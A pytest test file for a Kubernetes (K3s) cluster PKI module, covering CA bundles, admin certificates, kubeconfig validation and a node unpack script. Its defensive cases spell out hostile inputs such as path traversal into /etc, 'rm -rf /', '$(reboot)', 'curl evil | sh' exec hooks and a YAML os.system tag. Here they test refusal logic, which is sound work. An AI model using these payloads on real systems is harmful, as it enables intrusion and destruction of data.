"""The cluster PKI: the CA set K3s needs, its S3 bundle (and hostile ones), the admin
certificate, serving certificates, kubeconfigs, and the node-side unpack script."""

from __future__ import annotations

import base64
import json
import os
import stat
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from goman.aws.errors import GomanError
from goman.provision.pki import (
    CABundle,
    admin_common_name,
    admin_kubeconfig,
    build_kubeconfig,
    certificate_credentials,
    generate_cluster_cas,
    issue_serving_certificate,
    sign_admin_certificate,
    unpack,
    validate_uploaded_kubeconfig,
)
from goman.provision.pki.layout import AUTHORITIES, BUNDLE_FILES, SERVICE_KEY, TLS_DIR
from goman.provision.pki.x509util import cert_pem, key_pem, new_ec_key, self_signed_ca

ARN = "arn:aws:sts::123456789012:assumed-role/Admin/jane@example.com"
ENDPOINT = "https://203.0.113.7:6443"


@pytest.fixture(scope="module")
def bundle() -> CABundle:
    return generate_cluster_cas()


@pytest.fixture(scope="module")
def other() -> CABundle:
    return generate_cluster_cas()


def _cert(bundle: CABundle, path: str) -> x509.Certificate:
    return x509.load_pem_x509_certificate(bundle.files[path].encode())


# -- the CA set -------------------------------------------------------------------------


def test_the_ca_set_is_the_files_k3s_documents() -> None:
    assert TLS_DIR == "/var/lib/rancher/k3s/server/tls"
    assert {
        "server-ca.crt",
        "server-ca.key",
        "client-ca.crt",
        "client-ca.key",
        "request-header-ca.crt",
        "request-header-ca.key",
        "etcd/peer-ca.crt",
        "etcd/peer-ca.key",
        "etcd/server-ca.crt",
        "etcd/server-ca.key",
        "service.key",
    } == BUNDLE_FILES


def test_every_ca_is_a_self_signed_p256_ca_like_k3s_makes(bundle: CABundle) -> None:
    assert set(bundle.files) == BUNDLE_FILES
    now = datetime.now(UTC)
    public_keys = set()
    for authority in AUTHORITIES:
        cert = _cert(bundle, authority.cert)
        cn = cert.subject.get_attributes_for_oid(NameOID.COMMON_NAME)[0].value
        assert str(cn).startswith(authority.common_name + "@")
        assert cert.issuer == cert.subject
        constraints = cert.extensions.get_extension_for_class(x509.BasicConstraints)
        assert constraints.critical and constraints.value.ca
        assert constraints.value.path_length is None
        usage = cert.extensions.get_extension_for_class(x509.KeyUsage)
        assert usage.critical and usage.value.key_cert_sign and usage.value.digital_signature
        assert not usage.value.key_encipherment  # meaningless for an EC key (RFC 5480)
        ski = cert.extensions.get_extension_for_class(x509.SubjectKeyIdentifier).value
        aki = cert.extensions.get_extension_for_class(x509.AuthorityKeyIdentifier).value
        assert aki.key_identifier == ski.digest
        key = bundle.private_key(authority.key)
        assert isinstance(key, ec.EllipticCurvePrivateKey) and key.curve.name == "secp256r1"
        assert bundle.files[authority.key].startswith("-----BEGIN EC PRIVATE KEY-----")
        cert.verify_directly_issued_by(cert)  # the signature is its own key's
        assert timedelta(days=3649) < cert.not_valid_after_utc - now < timedelta(days=3651)
        assert cert.not_valid_before_utc < now - timedelta(minutes=30)  # clock skew margin
        public_keys.add(key.public_key().public_numbers())
    assert len(public_keys) == 5  # five independent authorities
    service = bundle.files[SERVICE_KEY]
    assert service.startswith("-----BEGIN RSA PRIVATE KEY-----")
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    loaded = load_pem_private_key(service.encode(), password=None)
    assert isinstance(loaded, rsa.RSAPrivateKey) and loaded.key_size == 2048


def test_openssl_accepts_what_the_cas_issue(bundle: CABundle, tmp_path: Path) -> None:
    """An independent X.509 implementation checks the chain and purposes, strictly."""
    (tmp_path / "server-ca.crt").write_text(bundle.server_ca_pem)
    (tmp_path / "client-ca.crt").write_text(bundle.client_ca_pem)
    (tmp_path / "admin.crt").write_text(sign_admin_certificate(bundle, ARN).cert_pem)
    serving = issue_serving_certificate(bundle, ips=["127.0.0.1"], dns_names=["kubernetes"])
    (tmp_path / "serving.crt").write_text(serving.cert_pem)
    for ca, leaf, purpose in (
        ("client-ca.crt", "admin.crt", "sslclient"),
        ("server-ca.crt", "serving.crt", "sslserver"),
    ):
        out = subprocess.run(
            ["openssl", "verify", "-x509_strict", "-purpose", purpose, "-CAfile", ca, leaf],
            cwd=tmp_path,
            capture_output=True,
            text=True,
        )
        assert out.returncode == 0 and "OK" in out.stdout, out.stderr
    wrong = subprocess.run(
        ["openssl", "verify", "-CAfile", "server-ca.crt", "admin.crt"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert wrong.returncode != 0  # the client CA is not the server CA


# -- the bundle -------------------------------------------------------------------------


def test_bundle_round_trips_and_is_deterministic(bundle: CABundle) -> None:
    body = bundle.to_bytes()
    assert len(body) < 16 * 1024
    doc = json.loads(body)
    assert doc["kind"] == "k3s-ca-bundle" and doc["schema_version"] == 1
    back = CABundle.from_bytes(body)
    assert back == bundle and back.to_bytes() == body
    assert back.certificate("client-ca.crt") == _cert(bundle, "client-ca.crt")


def _hostile(bundle: CABundle, change: Any) -> bytes:
    doc = json.loads(bundle.to_bytes())
    change(doc)
    return json.dumps(doc).encode()


def _leaf_pem(bundle: CABundle) -> str:
    return sign_admin_certificate(bundle, ARN).cert_pem.split("-----END CERTIFICATE-----")[0] + (
        "-----END CERTIFICATE-----\n"
    )


HOSTILE: dict[str, Any] = {
    "path traversal": lambda d: d["files"].update({"../../../etc/cron.d/x": "* * * * * root sh"}),
    "absolute path": lambda d: d["files"].update({"/etc/shadow": "x"}),
    "dot segments": lambda d: d["files"].update({"etcd/../server-ca.crt": "x"}),
    "missing file": lambda d: d["files"].pop("etcd/peer-ca.key"),
    "shell script": lambda d: d["files"].update({"server-ca.crt": "#!/bin/sh\nrm -rf /\n"}),
    "text after PEM": lambda d: d["files"].update(
        {"server-ca.crt": d["files"]["server-ca.crt"] + "$(reboot)\n"}
    ),
    "encrypted key headers": lambda d: d["files"].update(
        {
            "client-ca.key": d["files"]["client-ca.key"].replace(
                "-----\n", "-----\nProc-Type: 4,ENCRYPTED\n\n", 1
            )
        }
    ),
    "key in a cert file": lambda d: d["files"].update(
        {"server-ca.crt": d["files"]["server-ca.key"]}
    ),
    "keys swapped": lambda d: d["files"].update(
        {"server-ca.key": d["files"]["client-ca.key"], "client-ca.key": d["files"]["server-ca.key"]}
    ),
    "not a string": lambda d: d["files"].update({"service.key": 42}),
    "not ascii": lambda d: d["files"].update({"server-ca.crt": "-----BEGIN CERTIFICATE-----\né"}),
    "oversize file": lambda d: d["files"].update({"server-ca.crt": "A" * 20000}),
    "unknown field": lambda d: d.update({"exec": "curl evil | sh"}),
    "future schema": lambda d: d.update({"schema_version": 2}),
    "wrong kind": lambda d: d.update({"kind": "kubeconfig"}),
    "files not a map": lambda d: d.update({"files": ["server-ca.crt"]}),
    "ec service key": lambda d: d["files"].update({"service.key": d["files"]["client-ca.key"]}),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_bundles_are_refused(bundle: CABundle, case: str) -> None:
    with pytest.raises(GomanError) as err:
        CABundle.from_bytes(_hostile(bundle, HOSTILE[case]), source="The CA bundle of web")
    assert err.value.message.startswith("The CA bundle of web is invalid")
    assert "goman state history" in err.value.hint


def test_a_leaf_certificate_is_not_accepted_as_a_ca(bundle: CABundle) -> None:
    leaf = _leaf_pem(bundle)
    body = _hostile(bundle, lambda d: d["files"].update({"client-ca.crt": leaf}))
    with pytest.raises(GomanError, match="not a certificate authority"):
        CABundle.from_bytes(body)


def test_an_expired_ca_is_refused(bundle: CABundle) -> None:
    key = new_ec_key()
    old = self_signed_ca(
        "k3s-server-ca@1", key, datetime.now(UTC) - timedelta(days=20), timedelta(days=10)
    )
    body = _hostile(
        bundle,
        lambda d: d["files"].update(
            {"server-ca.crt": cert_pem(old), "server-ca.key": key_pem(key)}
        ),
    )
    with pytest.raises(GomanError, match="expired"):
        CABundle.from_bytes(body)


@pytest.mark.parametrize(
    "body", [b"", b"[]", b"null", b"\xff\xfe", b"{" * 10, b" " * (129 * 1024)], ids=str
)
def test_garbage_bodies_are_refused(body: bytes) -> None:
    with pytest.raises(GomanError):
        CABundle.from_bytes(body)


# -- the admin certificate --------------------------------------------------------------


def test_admin_certificate_is_a_year_of_cluster_admin_for_the_caller(bundle: CABundle) -> None:
    issued = sign_admin_certificate(bundle, ARN)
    leaf, ca = x509.load_pem_x509_certificates(issued.cert_pem.encode())
    assert ca == bundle.certificate("client-ca.crt")
    leaf.verify_directly_issued_by(ca)
    assert leaf.subject.get_attributes_for_oid(NameOID.COMMON_NAME)[0].value == ARN
    assert [a.value for a in leaf.subject.get_attributes_for_oid(NameOID.ORGANIZATION_NAME)] == [
        "system:masters"
    ]
    assert leaf.extensions.get_extension_for_class(
        x509.ExtendedKeyUsage
    ).value == x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CLIENT_AUTH])
    assert not leaf.extensions.get_extension_for_class(x509.BasicConstraints).value.ca
    life = leaf.not_valid_after_utc - leaf.not_valid_before_utc
    assert timedelta(days=365) <= life <= timedelta(days=365, minutes=10)
    san = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert san.get_values_for_type(x509.UniformResourceIdentifier) == [ARN]


def test_common_name_of_long_or_odd_identities() -> None:
    short = "arn:aws:iam::123456789012:user/jane"
    assert admin_common_name(short) == short
    sso = (
        "arn:aws:sts::123456789012:assumed-role/"
        "AWSReservedSSO_AdministratorAccess_0123456789abcdef/jane.doe@example.com"
    )
    cn = admin_common_name(sso)
    assert len(cn) == 64
    assert cn.startswith("123456789012:") and "jane.doe@example.com~" in cn
    twin = sso.replace("jane.doe", "jane.dot")
    assert admin_common_name(twin) != cn  # distinct identities never share a CN
    assert admin_common_name("arn:aws:iam::1:user/a b\n\x1b[31m") == "arn:aws:iam::1:user/a_b___31m"
    with pytest.raises(ValueError):
        admin_common_name("  ")


def test_admin_certificate_never_outlives_its_ca(bundle: CABundle) -> None:
    late = datetime.now(UTC) + timedelta(days=3600)
    issued = sign_admin_certificate(bundle, ARN, now=late)
    assert issued.not_after == bundle.certificate("client-ca.crt").not_valid_after_utc


def test_serving_certificate_names_its_addresses(bundle: CABundle) -> None:
    issued = issue_serving_certificate(bundle, ips=["127.0.0.5"], dns_names=["kubernetes"])
    leaf = x509.load_pem_x509_certificates(issued.cert_pem.encode())[0]
    leaf.verify_directly_issued_by(bundle.certificate("server-ca.crt"))
    san = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert [str(ip) for ip in san.get_values_for_type(x509.IPAddress)] == ["127.0.0.5"]
    assert san.get_values_for_type(x509.DNSName) == ["kubernetes"]
    assert leaf.extensions.get_extension_for_class(
        x509.ExtendedKeyUsage
    ).value == x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH])
    with pytest.raises(ValueError):
        issue_serving_certificate(bundle)


# -- kubeconfigs ------------------------------------------------------------------------


def test_admin_kubeconfig_is_certificate_auth_only(bundle: CABundle) -> None:
    config = admin_kubeconfig(bundle, endpoint=ENDPOINT, identity_arn=ARN, context="goman-team-web")
    assert config["current-context"] == "goman-team-web"
    assert [c["name"] for c in config["clusters"]] == ["goman-team-web"]
    assert config["contexts"][0]["context"] == {
        "cluster": "goman-team-web",
        "user": "goman-team-web",
    }
    cluster = config["clusters"][0]["cluster"]
    assert cluster == {
        "server": ENDPOINT,
        "certificate-authority-data": base64.b64encode(bundle.server_ca_pem.encode()).decode(),
    }
    assert set(config["users"][0]["user"]) == {"client-certificate-data", "client-key-data"}
    creds = certificate_credentials(config, endpoint=ENDPOINT)
    assert creds.ca_pem == bundle.server_ca_pem and creds.server == ENDPOINT
    text = yaml.safe_dump(config)
    for word in ("exec", "token", "auth-provider", "insecure", "password"):
        assert word not in text


def _k3s_style(bundle: CABundle, server: str = ENDPOINT) -> dict[str, Any]:
    """What an older cluster's server-0 uploaded: K3s's admin kubeconfig, names `default`."""
    client = sign_admin_certificate(bundle, "system:admin")
    config = build_kubeconfig(
        endpoint=server,
        server_ca_pem=bundle.server_ca_pem,
        client_cert_pem=client.cert_pem,
        client_key_pem=client.key_pem,
        context="default",
    )
    config.pop("preferences")
    return config


def test_a_proper_uploaded_kubeconfig_is_accepted_and_rebuilt(bundle: CABundle) -> None:
    text = yaml.safe_dump(_k3s_style(bundle, ENDPOINT + "/"))
    config = validate_uploaded_kubeconfig(text, endpoint=ENDPOINT, context="goman-default-web")
    assert config["current-context"] == "goman-default-web"
    assert config["clusters"][0]["cluster"]["server"] == ENDPOINT
    user = config["users"][0]["user"]
    assert set(user) == {"client-certificate-data", "client-key-data"}
    assert user == _k3s_style_user(text)


def _k3s_style_user(text: str) -> dict[str, Any]:
    return dict(yaml.safe_load(text)["users"][0]["user"])


EXEC_USER = {
    "exec": {
        "apiVersion": "client.authentication.k8s.io/v1beta1",
        "command": "sh",
        "args": ["-c", "curl evil|sh"],
    }
}
HOSTILE_KUBECONFIGS: dict[str, Any] = {
    "exec user": (lambda c: c["users"][0]["user"].update(EXEC_USER), "runs a command"),
    "exec only": (lambda c: c["users"][0].update({"user": dict(EXEC_USER)}), "runs a command"),
    "token": (lambda c: c["users"][0]["user"].update({"token": "abc"}), "bearer token"),
    "token file": (lambda c: c["users"][0]["user"].update({"tokenFile": "/etc/x"}), "token file"),
    "auth provider": (
        lambda c: c["users"][0]["user"].update({"auth-provider": {"name": "oidc"}}),
        "auth-provider",
    ),
    "password": (
        lambda c: c["users"][0]["user"].update({"username": "a", "password": "b"}),
        "password",
    ),
    "cert from a path": (
        lambda c: c["users"][0]["user"].update({"client-certificate": "/tmp/x"}),
        "file path",
    ),
    "impersonation": (
        lambda c: c["users"][0]["user"].update({"as": "system:admin"}),
        "impersonates",
    ),
    "insecure": (
        lambda c: c["clusters"][0]["cluster"].update({"insecure-skip-tls-verify": True}),
        "insecure-skip-tls-verify",
    ),
    "insecure false": (
        lambda c: c["clusters"][0]["cluster"].update({"insecure-skip-tls-verify": False}),
        "insecure-skip-tls-verify",
    ),
    "other server": (
        lambda c: c["clusters"][0]["cluster"].update({"server": "https://198.51.100.9:6443"}),
        "not the cluster's endpoint",
    ),
    "http server": (
        lambda c: c["clusters"][0]["cluster"].update({"server": "http://203.0.113.7:6443"}),
        "not an https URL",
    ),
    "missing CA": (
        lambda c: c["clusters"][0]["cluster"].pop("certificate-authority-data"),
        "certificate-authority-data is missing",
    ),
    "CA from a path": (
        lambda c: c["clusters"][0]["cluster"].update({"certificate-authority": "/etc/ca"}),
        "file path",
    ),
    "CA not base64": (
        lambda c: c["clusters"][0]["cluster"].update({"certificate-authority-data": "!!!"}),
        "not base64",
    ),
    "proxy": (
        lambda c: c["clusters"][0]["cluster"].update({"proxy-url": "http://evil:3128"}),
        "proxy",
    ),
    "second user": (
        lambda c: c["users"].append({"name": "x", "user": dict(EXEC_USER)}),
        "exactly one",
    ),
    "extension": (lambda c: c.update({"extensions": [{"name": "x"}]}), "unexpected top-level"),
    "context namespace trick": (
        lambda c: c["contexts"][0]["context"].update({"user": "other"}),
        "does not name",
    ),
    "key of another cert": (
        lambda c: c["users"][0]["user"].update(
            {"client-key-data": base64.b64encode(key_pem(new_ec_key()).encode()).decode()}
        ),
        "does not belong",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_KUBECONFIGS))
def test_hostile_uploaded_kubeconfigs_are_refused(bundle: CABundle, case: str) -> None:
    config = _k3s_style(bundle)
    change, reason = HOSTILE_KUBECONFIGS[case]
    change(config)
    with pytest.raises(GomanError) as err:
        validate_uploaded_kubeconfig(yaml.safe_dump(config), endpoint=ENDPOINT, context="c")
    assert "was refused" in err.value.message and reason in err.value.message
    assert err.value.hint


@pytest.mark.parametrize(
    "text",
    [
        "- a\n- b\n",
        "!!python/object/apply:os.system ['id']\n",
        "clusters: [\n",
        "a: " + "x" * (65 * 1024),
        "",
    ],
    ids=["list", "python tag", "broken", "oversize", "empty"],
)
def test_unreadable_uploaded_kubeconfigs_are_refused(text: str) -> None:
    with pytest.raises(GomanError, match="was refused"):
        validate_uploaded_kubeconfig(text, endpoint=ENDPOINT, context="c")


# -- the node's unpack script -----------------------------------------------------------


def _unpack(bundle_bytes: bytes, target: Path) -> subprocess.CompletedProcess[str]:
    script = resources.files("goman.provision.pki").joinpath("unpack.py")
    return subprocess.run(
        [sys.executable, "-I", str(script), str(target)],
        input=bundle_bytes.decode("latin-1"),
        capture_output=True,
        text=True,
        timeout=30,
    )


def test_unpack_writes_private_files_once(bundle: CABundle, tmp_path: Path) -> None:
    assert set(unpack.FILES) == BUNDLE_FILES
    target = tmp_path / "server" / "tls"
    first = _unpack(bundle.to_bytes(), target)
    assert first.returncode == 0, first.stderr
    for path in BUNDLE_FILES:
        written = target / path
        assert written.read_text() == bundle.files[path]
        assert stat.S_IMODE(written.stat().st_mode) == 0o600
    assert stat.S_IMODE((target / "etcd").stat().st_mode) == 0o700
    again = _unpack(bundle.to_bytes(), target)
    assert again.returncode == 0 and "0 CA file(s) written" in again.stdout


def test_unpack_never_replaces_a_different_ca(
    bundle: CABundle, other: CABundle, tmp_path: Path
) -> None:
    target = tmp_path / "tls"
    assert _unpack(bundle.to_bytes(), target).returncode == 0
    clash = _unpack(other.to_bytes(), target)
    assert clash.returncode == 3 and "not replacing" in clash.stderr
    assert (target / "server-ca.crt").read_text() == bundle.files["server-ca.crt"]


def test_unpack_refuses_hostile_bundles_and_writes_nothing(
    bundle: CABundle, tmp_path: Path
) -> None:
    target = tmp_path / "a" / "tls"
    body = _hostile(bundle, HOSTILE["path traversal"])
    out = _unpack(body, target)
    assert out.returncode == 2 and "refused" in out.stderr
    assert not target.exists() and os.listdir(tmp_path) == []
